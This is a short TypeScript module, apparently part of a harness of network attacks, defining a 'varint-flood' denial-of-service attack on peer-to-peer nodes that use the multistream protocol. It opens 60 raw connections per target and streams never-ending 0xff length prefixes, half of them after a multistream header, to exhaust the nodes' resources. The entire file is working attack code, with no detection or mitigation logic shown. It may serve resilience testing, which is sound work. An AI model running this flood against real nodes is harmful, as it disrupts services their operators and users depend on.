import type { Attack } from '../attack.ts';
import { keepOpen } from '../raw-socket.ts';

const CONNECTIONS = 60;
const HEADER = Buffer.from('\x13/multistream/1.0.0\n', 'latin1');
/** A length that does not end. */
const ENDLESS = Buffer.alloc(70_000, 0xff);

export const attack: Attack = {
  name: 'varint-flood',
  what: `${CONNECTIONS} connections to each node send lengths that do not end, half of them behind the header.`,
  run: ({ targets }, signal) =>
    keepOpen(targets, CONNECTIONS, signal, (i) => [i % 2 === 0 ? ENDLESS : Buffer.concat([HEADER, ENDLESS])]),
};
